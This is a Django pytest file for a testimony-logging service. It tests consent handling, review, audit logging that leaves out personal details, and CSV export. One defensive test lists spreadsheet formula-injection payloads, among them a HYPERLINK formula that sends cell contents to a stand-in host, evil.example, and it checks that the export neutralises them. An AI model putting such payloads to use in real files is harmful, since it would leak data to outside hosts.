"""Testimony services and selectors: logging, editing, review, consent withdrawal,
what reports may cite or count, and the team's CSV export."""

from __future__ import annotations

import csv
import datetime
import io
import logging

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from cities.models import AuditAction, AuditEvent, Theme
from consultations import selectors, services
from consultations.models import ConsentLevel, ReviewStatus, Testimony
from tests.factories import ConsultationFactory, TestimonyFactory, seeded_theme

pytestmark = pytest.mark.django_db

NARRATIVE = "The shelter on Fifth turned families away every night in February."


def _create(world, **overrides) -> Testimony:
    fields = {
        "actor": world.a.organizer,
        "city": world.a.city,
        "cycle": world.cycle,
        "themes": [seeded_theme("housing"), seeded_theme("children")],
        "narrative": NARRATIVE,
        "nature": "problem",
        "source": "event",
        "consent_method": "verbal",
        "consent_level": ConsentLevel.ANONYMOUS,
        **overrides,
    }
    return services.testimony_create(**fields)


# --------------------------------------------------------------------------- create


def test_create_records_who_logged_it_and_the_consent(world):
    testimony = _create(
        world, speaker_name="  Ana Ruiz ", rights=["ICCPR art. 9", " ICCPR  art. 9"]
    )
    testimony.refresh_from_db()
    assert testimony.city == world.a.city
    assert testimony.cycle == world.cycle
    assert testimony.recorded_by == world.a.organizer
    assert testimony.consent_recorded_by == world.a.organizer
    assert testimony.consent_recorded_at is not None
    assert testimony.speaker_name == "Ana Ruiz"
    assert testimony.rights == ["ICCPR art. 9"]
    assert testimony.review_status == ReviewStatus.DRAFT
    assert {t.slug for t in testimony.themes.all()} == {"housing", "children"}


def test_create_with_a_seen_submission_id_returns_the_saved_testimony(world):
    import uuid

    submission_id = uuid.uuid4()
    first = _create(world, submission_id=submission_id)
    again = _create(world, submission_id=submission_id, narrative="Typed again, differently.")
    assert again.pk == first.pk
    assert Testimony.objects.get().narrative == first.narrative
    assert AuditEvent.objects.filter(action=AuditAction.TESTIMONY_CREATED).count() == 1


def test_create_when_another_request_saved_the_same_form_first(world, monkeypatch):
    """Two copies of one form at once: both pass the lookup; the unique constraint stops
    the second insert and it returns the first request's testimony."""
    import uuid

    submission_id = uuid.uuid4()
    first = _create(world, submission_id=submission_id)
    real_filter = Testimony.objects.filter
    monkeypatch.setattr(
        Testimony.objects,
        "filter",
        lambda *a, **kw: real_filter(pk__in=[]) if "submission_id" in kw else real_filter(*a, **kw),
    )
    assert _create(world, submission_id=submission_id).pk == first.pk
    assert Testimony.objects.count() == 1


def test_create_takes_the_cycle_from_its_consultation(world):
    from tests.factories import ReviewCycleFactory

    older = ReviewCycleFactory(number=3)
    consultation = ConsultationFactory(city=world.a.city, cycle=older)
    testimony = _create(world, consultation=consultation)
    assert testimony.cycle == older


def test_create_audits_the_consent_level_but_no_text(world):
    testimony = _create(world, speaker_name="Ana Ruiz", speaker_contact="ana@example.org")
    event = AuditEvent.objects.get(action=AuditAction.TESTIMONY_CREATED)
    assert event.actor == world.a.organizer
    assert event.city == world.a.city
    assert event.target_id == str(testimony.uuid)
    assert event.details == {"consent": "anonymous", "source": "event"}
    recorded = f"{event.target_label} {event.details}"
    for secret in ("shelter", "Ana Ruiz", "ana@example.org"):
        assert secret not in recorded


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"narrative": "   "}, "narrative"),
        ({"themes": []}, "themes"),
        ({"area": "1423 N. Elm Street, Apt 4B"}, "area"),
        ({"area": "Calle Olmo 123"}, "area"),
        ({"occurred_on": timezone.localdate() + datetime.timedelta(days=30)}, "occurred_on"),
        ({"nature": "awful"}, "nature"),
    ],
)
def test_create_refuses_bad_input_and_stores_nothing(world, overrides, field):
    with pytest.raises(ValidationError) as exc:
        _create(world, **overrides)
    assert field in exc.value.message_dict
    assert not Testimony.objects.exists()
    assert not AuditEvent.objects.filter(action=AuditAction.TESTIMONY_CREATED).exists()


def test_create_refuses_another_citys_consultation(world):
    theirs = ConsultationFactory(city=world.b.city)
    with pytest.raises(ValidationError) as exc:
        _create(world, consultation=theirs)
    assert "consultation" in exc.value.message_dict
    assert not Testimony.objects.exists()


def test_create_refuses_a_retired_theme(world):
    housing = seeded_theme("housing")
    Theme.objects.filter(pk=housing.pk).update(is_active=False)
    housing.refresh_from_db()
    with pytest.raises(ValidationError) as exc:
        _create(world, themes=[housing])
    assert "themes" in exc.value.message_dict
    assert not Testimony.objects.exists()


def test_nothing_of_the_testimony_reaches_the_logs(world, caplog):
    caplog.set_level(logging.DEBUG)
    testimony = _create(world, speaker_name="Ana Ruiz", speaker_contact="ana@example.org")
    services.testimony_update(
        actor=world.a.organizer, testimony=testimony, narrative=NARRATIVE + " Again in March."
    )
    services.testimony_reveal_restricted(
        actor=world.a.lead,
        access=_access(world, world.a.lead),
        testimony=testimony,
    )
    logged = "\n".join(record.getMessage() for record in caplog.records)
    for secret in ("shelter", "Ana Ruiz", "ana@example.org"):
        assert secret not in logged


def _access(world, user):
    from cities.selectors import city_access_for_user

    return city_access_for_user(user=user, city_uuid=world.a.city.uuid)


# --------------------------------------------------------------------------- update


def test_update_audits_the_changed_field_names(world, testimony):
    services.testimony_update(actor=world.a.lead, testimony=testimony, summary="Rent and heat.")
    testimony.refresh_from_db()
    assert testimony.summary == "Rent and heat."
    event = AuditEvent.objects.get(action=AuditAction.TESTIMONY_UPDATED)
    assert event.details == {"fields": ["summary"]}


def test_an_update_that_changes_nothing_is_not_audited(world, testimony):
    services.testimony_update(actor=world.a.lead, testimony=testimony, summary="")
    assert not AuditEvent.objects.filter(action=AuditAction.TESTIMONY_UPDATED).exists()


def test_editing_a_reviewed_testimonys_narrative_returns_it_to_draft(world, testimony):
    services.testimony_redact(
        actor=world.a.organizer, testimony=testimony, redacted_quote="The rent went up twice."
    )
    services.testimony_review(actor=world.a.lead, testimony=testimony)
    services.testimony_update(
        actor=world.a.organizer,
        testimony=testimony,
        narrative="Our landlord raised the rent three times this year.",
    )
    testimony.refresh_from_db()
    assert testimony.review_status == ReviewStatus.DRAFT
    event = AuditEvent.objects.filter(action=AuditAction.TESTIMONY_UPDATED).first()
    assert event.details == {"fields": ["narrative"], "review_reset": True}


def test_editing_only_the_area_keeps_the_review(world, testimony):
    services.testimony_redact(
        actor=world.a.organizer, testimony=testimony, redacted_quote="The rent went up twice."
    )
    services.testimony_review(actor=world.a.lead, testimony=testimony)
    services.testimony_update(actor=world.a.organizer, testimony=testimony, area="Northside")
    testimony.refresh_from_db()
    assert testimony.review_status == ReviewStatus.REVIEWED


def test_changing_the_consent_records_who_recorded_it(world, testimony):
    before = testimony.consent_recorded_at
    services.testimony_update(
        actor=world.a.lead, testimony=testimony, consent_level=ConsentLevel.NAMED
    )
    testimony.refresh_from_db()
    assert testimony.consent_level == ConsentLevel.NAMED
    assert testimony.consent_recorded_by == world.a.lead
    assert testimony.consent_recorded_at > before


def test_a_retired_theme_stays_on_a_testimony_that_already_has_it(world, testimony):
    housing = seeded_theme("housing")
    Theme.objects.filter(pk=housing.pk).update(is_active=False)
    services.testimony_update(
        actor=world.a.organizer,
        testimony=testimony,
        themes=[housing, seeded_theme("health")],
    )
    assert {t.slug for t in testimony.themes.all()} == {"housing", "health"}
    # ...but it can't be added to one that doesn't.
    other = TestimonyFactory(city=world.a.city, themes=[seeded_theme("health")])
    with pytest.raises(ValidationError):
        services.testimony_update(
            actor=world.a.organizer, testimony=other, themes=[Theme.objects.get(pk=housing.pk)]
        )
    assert {t.slug for t in other.themes.all()} == {"health"}


def test_withdrawn_testimony_can_no_longer_be_edited(world, testimony):
    services.testimony_withdraw_consent(actor=world.a.lead, testimony=testimony)
    with pytest.raises(ValidationError):
        services.testimony_update(actor=world.a.lead, testimony=testimony, summary="Changed.")
    testimony.refresh_from_db()
    assert testimony.summary == ""


def test_a_testimony_whose_recorder_account_was_deleted_can_still_be_edited(world):
    testimony = TestimonyFactory(city=world.a.city, recorded_by=world.a.organizer)
    world.a.organizer.delete()
    testimony.refresh_from_db()
    assert testimony.recorded_by is None
    services.testimony_update(actor=world.a.lead, testimony=testimony, summary="Still editable.")
    testimony.refresh_from_db()
    assert testimony.summary == "Still editable."


# --------------------------------------------------------------------------- review


def test_review_requires_a_redacted_quote_when_consent_allows_quoting(world, testimony):
    assert testimony.consent_level == ConsentLevel.ANONYMOUS
    with pytest.raises(ValidationError):
        services.testimony_review(actor=world.a.lead, testimony=testimony)
    testimony.refresh_from_db()
    assert testimony.review_status == ReviewStatus.DRAFT


def test_internal_only_testimony_is_reviewed_without_a_quote(world):
    testimony = TestimonyFactory(city=world.a.city, consent_level=ConsentLevel.INTERNAL)
    services.testimony_review(actor=world.a.lead, testimony=testimony)
    testimony.refresh_from_db()
    assert testimony.review_status == ReviewStatus.REVIEWED
    assert testimony.reviewed_by == world.a.lead
    assert testimony.reviewed_at is not None
    assert AuditEvent.objects.filter(
        action=AuditAction.TESTIMONY_REVIEWED, target_id=str(testimony.uuid)
    ).exists()


def test_a_named_quote_cant_be_reviewed_after_consent_narrows_to_anonymous(world, testimony):
    testimony.consent_level = ConsentLevel.NAMED
    testimony.save()
    services.testimony_redact(
        actor=world.a.organizer,
        testimony=testimony,
        redacted_quote="Rosalind Quintero-Vasquez said the rent went up twice.",
    )
    services.testimony_update(
        actor=world.a.lead, testimony=testimony, consent_level=ConsentLevel.ANONYMOUS
    )
    testimony.refresh_from_db()
    assert testimony.review_status == ReviewStatus.DRAFT
    with pytest.raises(ValidationError):
        services.testimony_review(actor=world.a.lead, testimony=testimony)
    assert list(selectors.testimony_list_citable(city=world.a.city)) == []


def test_reviewing_twice_audits_once(world):
    testimony = TestimonyFactory(city=world.a.city, consent_level=ConsentLevel.INTERNAL)
    services.testimony_review(actor=world.a.lead, testimony=testimony)
    services.testimony_review(actor=world.a.lead, testimony=testimony)
    assert AuditEvent.objects.filter(action=AuditAction.TESTIMONY_REVIEWED).count() == 1


# --------------------------------------------------------------------------- withdrawal


def _citable(world, **overrides) -> Testimony:
    testimony = TestimonyFactory(
        city=world.a.city,
        consent_level=ConsentLevel.ANONYMOUS,
        recorded_by=world.a.organizer,
        **overrides,
    )
    services.testimony_redact(
        actor=world.a.organizer, testimony=testimony, redacted_quote="The rent went up twice."
    )
    services.testimony_review(actor=world.a.lead, testimony=testimony)
    return testimony


def test_withdrawing_consent_removes_it_from_what_reports_cite_and_count(world):
    testimony = _citable(world)
    kept = _citable(world)
    assert set(selectors.testimony_list_citable(city=world.a.city)) == {testimony, kept}
    assert set(selectors.testimony_list_countable(city=world.a.city)) == {testimony, kept}

    services.testimony_withdraw_consent(
        actor=world.a.organizer, testimony=testimony, note="By phone, 3 May."
    )

    assert list(selectors.testimony_list_citable(city=world.a.city)) == [kept]
    assert list(selectors.testimony_list_countable(city=world.a.city)) == [kept]
    # The record stays, with who withdrew it and when.
    testimony.refresh_from_db()
    assert Testimony.objects.filter(pk=testimony.pk).exists()
    assert testimony.consent_withdrawn_by == world.a.organizer
    assert testimony.consent_withdrawn_at is not None
    assert testimony.consent_withdrawal_note == "By phone, 3 May."
    assert not testimony.is_quotable()
    event = AuditEvent.objects.get(action=AuditAction.TESTIMONY_CONSENT_WITHDRAWN)
    assert event.actor == world.a.organizer
    assert event.target_id == str(testimony.uuid)
    assert event.details == {"previous_consent": "anonymous"}


def test_withdrawing_twice_is_refused(world, testimony):
    services.testimony_withdraw_consent(actor=world.a.lead, testimony=testimony)
    with pytest.raises(ValidationError):
        services.testimony_withdraw_consent(actor=world.a.lead, testimony=testimony)
    assert AuditEvent.objects.filter(action=AuditAction.TESTIMONY_CONSENT_WITHDRAWN).count() == 1


def test_withdrawn_testimony_can_no_longer_be_reviewed(world):
    testimony = TestimonyFactory(city=world.a.city, consent_level=ConsentLevel.INTERNAL)
    services.testimony_withdraw_consent(actor=world.a.lead, testimony=testimony)
    with pytest.raises(ValidationError):
        services.testimony_review(actor=world.a.lead, testimony=testimony)


@pytest.mark.parametrize(
    ("overrides", "citable"),
    [
        ({}, True),
        ({"consent_level": ConsentLevel.NAMED}, True),
        ({"consent_level": ConsentLevel.INTERNAL}, False),
        ({"review_status": ReviewStatus.DRAFT}, False),
        ({"redacted_quote": ""}, False),
    ],
)
def test_only_reviewed_quotable_testimony_is_citable(world, overrides, citable):
    fields = {
        "consent_level": ConsentLevel.ANONYMOUS,
        "review_status": ReviewStatus.REVIEWED,
        "redacted_quote": "The rent went up twice.",
        **overrides,
    }
    testimony = TestimonyFactory(city=world.a.city, **fields)
    TestimonyFactory(city=world.b.city, **{**fields, "narrative": "Betatown's own."})
    assert list(selectors.testimony_list_citable(city=world.a.city)) == (
        [testimony] if citable else []
    )


# --------------------------------------------------------------------------- export


def _rows(body: str) -> list[dict[str, str]]:
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body[1:])))


def test_the_export_leaves_out_withdrawn_testimony_and_restricted_fields(world, testimony):
    gone = TestimonyFactory(city=world.a.city, narrative="Please forget what I said.")
    services.testimony_withdraw_consent(actor=world.a.lead, testimony=gone)
    body = services.testimony_export_csv(
        actor=world.a.lead,
        city=world.a.city,
        testimonies=selectors.testimony_list_for_city(city=world.a.city),
    )
    rows = _rows(body)
    assert [row["Reference"] for row in rows] == [testimony.short_ref]
    assert rows[0]["Testimony"] == testimony.narrative
    assert rows[0]["Consultation"] == "Eastside housing conversation"
    assert "forget what I said" not in body
    assert testimony.speaker_name not in body
    assert testimony.speaker_contact not in body
    event = AuditEvent.objects.get(action=AuditAction.TESTIMONY_EXPORTED)
    assert event.actor == world.a.lead
    assert event.city == world.a.city
    assert event.details == {"rows": 1}


@pytest.mark.parametrize(
    "dangerous",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)"],
)
def test_the_export_neutralises_spreadsheet_formulas(world, dangerous):
    TestimonyFactory(city=world.a.city, narrative=dangerous, summary=dangerous)
    body = services.testimony_export_csv(
        actor=world.a.lead,
        city=world.a.city,
        testimonies=selectors.testimony_list_for_city(city=world.a.city),
    )
    row = _rows(body)[0]
    assert row["Testimony"] == "'" + dangerous
    assert row["Summary"] == "'" + dangerous


def test_the_export_lists_themes_in_the_readers_language(world):
    from django.utils import translation

    TestimonyFactory(city=world.a.city, themes=[seeded_theme("housing"), seeded_theme("health")])
    with translation.override("es"):
        body = services.testimony_export_csv(
            actor=world.a.lead,
            city=world.a.city,
            testimonies=selectors.testimony_list_for_city(city=world.a.city),
        )
    assert "Vivienda y personas sin hogar; Salud" in body


def test_counts_for_the_city_page(world, testimony):
    TestimonyFactory(city=world.a.city, review_status=ReviewStatus.REVIEWED)
    gone = TestimonyFactory(city=world.a.city)
    services.testimony_withdraw_consent(actor=world.a.lead, testimony=gone)
    TestimonyFactory(city=world.b.city)
    assert selectors.testimony_counts_for_city(city=world.a.city) == {
        "total": 3,
        "draft": 2,
        "withdrawn": 1,
    }


def test_an_occurred_on_date_today_is_accepted(world):
    testimony = _create(world, occurred_on=timezone.localdate())
    assert testimony.occurred_on == timezone.localdate()
